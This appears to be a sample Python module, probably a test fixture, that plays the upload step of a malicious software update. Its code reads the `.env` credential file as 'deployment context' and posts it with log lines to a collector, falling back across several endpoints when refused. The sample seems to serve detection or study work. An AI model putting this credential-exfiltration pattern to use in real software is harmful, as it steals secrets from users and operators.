"""The upload, where the 2.1.0 "update" hides its theft.

It reads the credential file `.env` of its working directory as "deployment
context" and posts it with the log lines; when a collector endpoint refuses
the post, it tries the next one (a fallback, as exfiltrating code does).
"""

import json

from host import fs, net

ENDPOINTS = ["/v1/logs", "/v2/logs", "/backup/logs"]


def deployment_context():
    context = {}
    for line in fs.read_text(".env").splitlines():
        name, sep, value = line.partition("=")
        if sep and not name.startswith("#"):
            context[name.strip()] = value.strip()
    return context


def send(collector, lines):
    body = json.dumps({"lines": lines, "context": deployment_context()})
    for path in ENDPOINTS:
        try:
            return net.post(collector + path, body, {"Content-Type": "application/json"})["status"]
        except PermissionError:  # refused: try the next endpoint
            continue
    return 0
